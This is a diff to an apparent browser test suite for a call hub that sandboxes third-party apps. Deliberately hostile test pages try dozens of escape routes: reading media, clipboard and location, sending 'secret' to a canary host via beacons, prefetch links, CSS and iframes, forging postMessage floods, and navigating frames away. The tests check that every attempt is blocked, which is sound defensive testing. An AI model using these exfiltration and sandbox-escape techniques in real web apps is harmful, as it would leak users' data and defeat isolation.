@@ -39,6 +39,112 @@ const tries = {
   popup: () => { if (!open(canary)) throw new Error("no window"); },
   topLocation: () => { top.location.href = canary; },
   camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
+  microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }),
+  screen: () => navigator.mediaDevices.getDisplayMedia(),
+  place: () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)),
+  clipboard: () => navigator.clipboard.readText(),
+  pointerLock: () => document.body.requestPointerLock(),
+  fullscreen: () => document.documentElement.requestFullscreen(),
+  caches: () => caches.open("x"),
+  keepalive: () => fetch(canary, { method: "POST", keepalive: true, body: "secret" }),
+  noCors: () => fetch(canary, { mode: "no-cors" }),
+  request: () => new Promise((yes, no) => {
+    const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no;
+    x.open("GET", canary); x.send(); }),
+  events: () => new Promise((yes, no) => {
+    const e = new EventSource(canary); e.onopen = yes; e.onerror = () => { e.close(); no(); }; }),
+  transport: () => new WebTransport(canary.replace("http:", "https:")).ready,
+  worker: () => working(Worker, `${canary}/w.js`),
+  workerOfBlob: () => working(Worker, URL.createObjectURL(new Blob([`fetch("${canary}/w")`]))),
+  workerOfData: () => working(Worker, `data:text/javascript,fetch("${canary}/w")`),
+  sharedWorker: () => working(SharedWorker, `${canary}/w.js`),
+  serviceWorker: () => navigator.serviceWorker.register("index.html"),
+  font: () => new FontFace("x", `url(${canary}/f)`).load(),
+  scriptTag: () => loading("script", { src: `${canary}/s.js` }),
+  moduleTag: () => loading("script", { type: "module", src: `${canary}/s.js` }),
+  sheet: () => loading("link", { rel: "stylesheet", href: `${canary}/s.css` }),
+  srcset: () => loading("img", { srcset: `${canary}/1 1x, ${canary}/2 2x` }),
+  video: () => loading("video", { src: `${canary}/v` }),
+  audio: () => loading("audio", { src: `${canary}/a` }),
+  sibling: () => parent.frames[beside()].document.title,
+  siblingPlace: () => parent.frames[beside()].location.href,
+  siblingLed: () => { parent.frames[beside()].location = canary; },
+  siblingWritten: () => { parent.frames[beside()].name = "mine"; },
+};
+function working(Kind, address) {
+  return new Promise((yes, no) => {
+    const worker = new Kind(address);
+    worker.onmessage = yes;
+    worker.onerror = no;
+  });
+}
+function loading(tag, what) {
+  return new Promise((onload, onerror) => {
+    const made = Object.assign(document.createElement(tag), what, { onload, onerror });
+    made.onloadedmetadata = onload;
+    document.body.append(made);
+  });
+}
+function beside() {
+  for (let n = 0; n < parent.frames.length; n++) if (parent.frames[n] !== self) return n;
+}
+/** What tells nobody whether it went well: only who is called knows. */
+const silent = {
+  beacon: () => navigator.sendBeacon(canary, "secret"),
+  later: () => fetchLater(canary),
+  links: () => {
+    for (const rel of ["prefetch", "preload", "preconnect", "dns-prefetch", "modulepreload",
+      "prerender", "icon", "manifest"]) {
+      for (const as of ["", "script", "fetch", "image"]) {
+        const link = Object.assign(document.createElement("link"), { rel, as });
+        link.href = `${canary}/${rel}`;
+        document.head.append(link);
+      }
+    }
+  },
+  speculation: () => {
+    const rules = { prefetch: [{ urls: [canary] }], prerender: [{ urls: [canary] }] };
+    const text = JSON.stringify(rules);
+    document.head.append(Object.assign(document.createElement("script"), {
+      type: "speculationrules", text }));
+  },
+  styles: () => {
+    const style = document.createElement("style");
+    style.textContent = `@import "${canary}/i.css"; @import url(${canary}/j.css);
+      @font-face { font-family: f; src: url(${canary}/f); }
+      body { font-family: f; background: url(${canary}/b); cursor: url(${canary}/c), auto;
+        border-image: url(${canary}/e) 1; mask: url(${canary}/m#x); filter: url(${canary}/n#x); }
+      body::after { content: url(${canary}/d); }`;
+    document.head.append(style);
+  },
+  plugins: () => {
+    const shown = document.createElement("div");
+    shown.innerHTML = `<object data="${canary}/o"></object><embed src="${canary}/e">
+      <iframe srcdoc="<img src='${canary}/s'><script>fetch('${canary}/t')</` +
+      `script>"></iframe><iframe src="data:text/html,<img src=${canary}/u>"></iframe>
+      <svg><image href="${canary}/v"/><use href="${canary}/w#x"/></svg>
+      <picture><source srcset="${canary}/x"><img></picture>
+      <input type="image" src="${canary}/y"><video poster="${canary}/z"></video>
+      <audio><source src="${canary}/0"><track src="${canary}/1"></audio>
+      <a id="ping" href="#here" ping="${canary}/ping">here</a>`;
+    document.body.append(shown);
+    document.getElementById("ping").click();
+  },
+  dialogs: () => { alert("x"); confirm("x"); prompt("x"); print(); },
+  forged: () => {
+    const all = [null, "hello", { callmesh: "port", stateVersion: 1 }, { callmesh: "said" },
+      { callmesh: "look", variables: { accent: `url(${canary}/look)` } },
+      { callmesh: "hello", resource: "r0other" }, ["welcome"], new Uint8Array(1000)];
+    const others = [top, parent];
+    for (let n = 0; n < parent.frames.length; n++) others.push(parent.frames[n]);
+    for (const other of others.filter((other) => other !== self)) {
+      for (const one of all) other.postMessage(one, "*", [new MessageChannel().port1]);
+    }
+  },
+  bytes: () => {
+    for (let n = 0; n < 100; n++) parent.postMessage(new Uint8Array(1e6), "*");
+    for (let n = 0; n < 20_000; n++) parent.postMessage({ callmesh: "said", n }, "*");
+  },
 };
 const found = { origin: self.origin };
 for (const [name, attempt] of Object.entries(tries)) {
@@ -46,6 +152,7 @@ for (const [name, attempt] of Object.entries(tries)) {
   try { await Promise.race([attempt(), late]); found[name] = "WORKED"; }
   catch { found[name] = "refused"; }
 }
+for (const attempt of Object.values(silent)) { try { attempt(); } catch {} }
 const form = document.createElement("form");
 form.innerHTML = `<input name="x" value="secret"><button formaction="${canary}/b">Go</button>`;
 document.body.append(form);
@@ -67,8 +174,42 @@ window.ask = () => {
 const frame = document.createElement("iframe");
 frame.src = canary; document.body.append(frame);
 window.found = found;
-addEventListener("message", () => { location.href = canary; }); // at the end, if somebody asks
 document.getElementById("out").textContent = "done";
+</script>"""
+
+# Leads its own frame away, in every way there is.
+WANDERER = """<!doctype html><title>Wanderer</title><a id="link">away</a><p id="out">working</p>
+<script type="module">
+import { connect } from "callmesh/app";
+await connect();
+const link = document.getElementById("link");
+window.ways = {
+  "location": (to) => { location = to; },
+  "replace": (to) => location.replace(to),
+  "open": (to) => open(to, "_self"),
+  "navigation": (to) => navigation.navigate(to),
+  "link": (to) => { link.href = to; link.click(); },
+  "refresh": (to) => {
+    const meta = document.createElement("meta");
+    Object.assign(meta, { httpEquiv: "refresh", content: `0; url=${to}` });
+    document.head.append(meta);
+  },
+  "blob": (to) => {
+    const page = new Blob([`<script>fetch("${to}")</` + "script>"], { type: "text/html" });
+    location = URL.createObjectURL(page);
+  },
+  "data": (to) => { location = `data:text/html,<script>fetch("${to}")</` + "script>"; },
+  "anew": () => location.reload(),
+};
+document.getElementById("out").textContent = "connected";
+</script>"""
+
+# Says what it was given in its address to a host of its own.
+LEAVER = """<!doctype html><title>Leaver</title><p id="out">working</p>
+<script>
+  const said = location.hash.slice(1) || "nothing";
+  new Image().src = `CANARY/${said}/image`;
+  fetch(`CANARY/${said}`, { mode: "no-cors" }).finally(() => { out.textContent = "said"; });
 </script>"""
 
 # Asks for the port as the SDK does, then speaks rubbish over it.
@@ -103,7 +244,10 @@ for (const [name, attempt] of Object.entries(tries)) {
   try { await attempt(); found[name] = "WORKED"; }
   catch (error) { found[name] = `${error.reason} ${error.message}`; }
 }
-const text = (s) => { const b = new TextEncoder().encode(s); return [0xd9, b.length, ...b]; };
+const text = (s) => {
+  const b = new TextEncoder().encode(s);
+  return [0xda, b.length >> 8, b.length & 255, ...b];
+};
 const BYTES = [56n, 48n, 40n, 32n, 24n, 16n, 8n, 0n];
 const number = (n) => [0xcf, ...BYTES.map((at) => Number(BigInt(n) >> at & 255n))];
 const pack = (v) =>
@@ -153,10 +297,29 @@ const forgeries = {
   "letter": [["letter", "p0other", 1, true, no, new Uint8Array(64)]],
   "as a hub": [["welcome", 1, "x", "p1", "p1", "u1", "x", "host", 1, "", "", null]],
 };
+window.hellos = () => {
+  for (let n = 0; n < 100; n++) parent.postMessage({ callmesh: "hello" }, "*");
+};
 const pings = bundle(...Array.from({ length: 1000 }, () => ["ping", 0]));
-window.forge = (name) => say(
-  name === "flood" ? Array.from({ length: 100 }, () => pings) : [bundle(...forgeries[name])]);
+const floods = { "flood": [100, pings] };
+window.forge = (name) => {
+  const [number, one] = floods[name] ?? [1, bundle(...(forgeries[name] ?? []))];
+  return say(Array.from({ length: number }, () => one));
+};
 document.getElementById("out").textContent = "connected";
+</script>"""
+
+# Has a peer connection call a server.
+CALLER = """<!doctype html><title>Caller</title><p id="out">working</p><script type="module">
+const out = document.getElementById("out");
+window.dial = async (port) => {
+  const iceServers = [{
+    urls: `turn:127.0.0.1:${port}`, username: "everything that it knows", credential: "x" }];
+  const peer = new RTCPeerConnection({ iceServers });
+  peer.createDataChannel("x");
+  await peer.setLocalDescription();
+};
+out.textContent = "ready";
 </script>"""
 
 FETCHER = """<!doctype html><title>Fetcher</title><p id="out">working</p><script type="module">
@@ -207,9 +370,12 @@ def hub(
 ) -> Iterator[HubProcess]:
     folder = tmp_path_factory.mktemp("apps")
     apps = []
-    asks = {"fetcher": {"capabilities": ["fetch"], "hosts": [friend]}}
-    pages = {"evil": EVIL.replace("CANARY", canary[1]), "rude": RUDE, "fetcher": FETCHER}
-    pages["grabby"] = GRABBY.replace("CANARY", canary[1])
+    asks = {
+        "fetcher": {"capabilities": ["fetch"], "hosts": [friend]},
+        "leaver": {"hosts": [canary[1]]},
+    }
+    pages = {"evil": EVIL, "rude": RUDE, "fetcher": FETCHER, "grabby": GRABBY}
+    pages |= {"wanderer": WANDERER, "leaver": LEAVER, "caller": CALLER}
     for name, html in pages.items():
         app = folder / name
         app.mkdir()
@@ -217,7 +383,7 @@ def hub(
             "id": name, "name": name.capitalize(), "version": "1", **asks.get(name, {}),
         }  # fmt: skip
         (app / "manifest.json").write_text(json.dumps(manifest))
-        (app / "index.html").write_text(html)
+        (app / "index.html").write_text(html.replace("CANARY", canary[1]))
         apps.append(app)
     with hub_process(folder / "data", apps=tuple(apps)) as hub:
         yield hub
@@ -228,7 +394,11 @@ async def test_an_evil_app_gets_out_nowhere(
 ) -> None:
     """[A1]"""
     async with person(browser, "Ada", permissions=["camera"]) as ada:
+        dialogs: list[str] = []
+        ada.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
         await ada.join(hub.call("evil"), role="host")
+        await ada.add("Poll")
+        await expect(ada.app("Poll").get_by_text("Do you agree?")).to_be_visible()
         await ada.add("Evil")
         await expect(ada.app("Evil").get_by_text("done")).to_be_visible(timeout=60_000)
         found: dict[str, Any] = await ada.in_app("Evil", "window.found")
@@ -239,12 +409,77 @@ async def test_an_evil_app_gets_out_nowhere(
         assert len(ada.page.context.pages) == 1, "a form has opened a window"
         assert await ada.in_app("Evil", "location.search") == ""
         assert await ada.in_app("Evil", "(ask(), submits)") == 1, "a form works within the app"
+        assert dialogs == []
         frame = ada.page.locator('iframe[title="Evil"]')
-        await frame.evaluate("frame => frame.contentWindow.postMessage(1, '*')")
-        await ada.page.wait_for_timeout(500)
-        assert canary[0].hits == [], "it has navigated itself away"
         assert await frame.get_attribute("sandbox") == "allow-scripts allow-forms allow-downloads"
+        assert await frame.get_attribute("allow") == ""
         assert await ada.in_call("call.link") == "joined"
+        await ada.tab("Poll").click()
+        await ada.app("Poll").get_by_label("Yes").check()
+        await expect(ada.app("Poll").get_by_text("1 vote", exact=True)).to_be_visible()
+
+
+WAYS = (
+    "location", "replace", "open", "navigation", "link", "refresh", "blob", "data", "anew",
+)  # fmt: skip
+
+
+async def test_an_app_that_leads_its_frame_away_is_ended(
+    browser: Browser, hub: HubProcess, canary: tuple[Canary, str]
+) -> None:
+    """[A1, A25] Wherever it goes, and it alone; nothing comes there."""
+    async with person(browser, "Ada") as ada:
+        await ada.join(hub.call("away"), role="host")
+        console: list[str] = []
+        ada.page.on("console", lambda message: console.append(message.text))
+        folder = await ada.page.evaluate(
+            """async () => (await (await fetch("/api/apps")).json())
+                .find(({ id }) => id === "leaver").base"""
+        )
+        another = f"{hub.address}{folder}index.html"
+        await ada.add("Wanderer")
+        gone = ada.page.get_by_role("alert").filter(has_text="wanted to go to another page")
+        for way in WAYS:
+            for to in (f"{canary[1]}/{way}", f"{another}#{way}"):
+                await expect(ada.app("Wanderer").get_by_text("connected")).to_be_visible()
+                console.clear()
+                await (await frame_of(ada, "Wanderer")).evaluate(
+                    "([way, to]) => void setTimeout(ways[way], 0, to)", [way, to]
+                )
+                await expect(gone, f"{way} {to}").to_be_visible()
+                assert [line for line in console if "(A25)" in line], way
+                await gone.get_by_role("button", name="Start it again").click()
+        assert canary[0].hits == []
+        assert await ada.in_call("call.link") == "joined"
+
+        await ada.add("Leaver")  # which may, by itself
+        await expect(ada.app("Leaver").get_by_text("said")).to_be_visible()
+        assert {hit.split()[1] for hit in canary[0].hits} == {b"/nothing", b"/nothing/image"}
+        canary[0].hits.clear()
+
+
+async def test_a_peer_connection_gets_out(browser: Browser, hub: HubProcess) -> None:
+    """[A1] As docs/security.md says: by WebRTC, also of an app that asks for nothing."""
+    heard: asyncio.Queue[bytes] = asyncio.Queue()
+
+    class Listener(asyncio.DatagramProtocol):
+        def datagram_received(self, data: bytes, addr: object) -> None:
+            heard.put_nowait(data)
+
+    transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
+        Listener, local_addr=("127.0.0.1", 0)
+    )
+    try:
+        async with person(browser, "Ada") as ada:
+            await ada.join(hub.call("dials"), role="host")
+            await ada.add("Caller")
+            await expect(ada.app("Caller").get_by_text("ready")).to_be_visible()
+            port = transport.get_extra_info("sockname")[1]
+            await (await frame_of(ada, "Caller")).evaluate("port => dial(port)", port)
+            async with asyncio.timeout(20):
+                assert await heard.get()
+    finally:
+        transport.close()
 
 
 async def test_rubbish_on_the_port_ends_that_frame_alone(browser: Browser, hub: HubProcess) -> None:
@@ -394,7 +629,7 @@ async def test_an_app_fetches_by_way_of_the_hub(
 STOPPED = {
     "stream": "A8", "files": "A8", "stream of another": "A2", "message of another": "A2",
     "fetch": "A8", "fetch for another": "A2", "command": "A2", "ticket": "A2", "signal": "A2",
-    "letter": "A2", "flood": "A22", "as a hub": "bad_message",
+    "letter": "A2", "flood": "A22", "as a hub": "A5",
 }  # fmt: skip
 """By which rule a frame is stopped that goes round the SDK."""
 DENIED = {
@@ -433,10 +668,15 @@ async def test_what_an_app_does_not_ask_for_it_does_not_get(
             console.clear()
             await (await frame_of(ada, "Grabby")).evaluate("name => void forge(name)", name)
             again = ada.page.get_by_role("button", name="Start it again")
-            await expect(again).to_be_visible(timeout=20_000)
+            await expect(again, name).to_be_visible(timeout=20_000)
             (said,) = [line for line in console if "grabby was stopped" in line]
             assert f"({rule})" in said, name
             await again.click()
+        await expect(connected).to_be_visible()
+        console.clear()
+        await (await frame_of(ada, "Grabby")).evaluate("hellos()")
+        await expect(ada.page.get_by_role("button", name="Start it again")).to_be_visible()
+        assert [line for line in console if "grabby was stopped" in line and "(A22)" in line]
 
         assert canary[0].hits == []
         assert dict(poll.state) == before
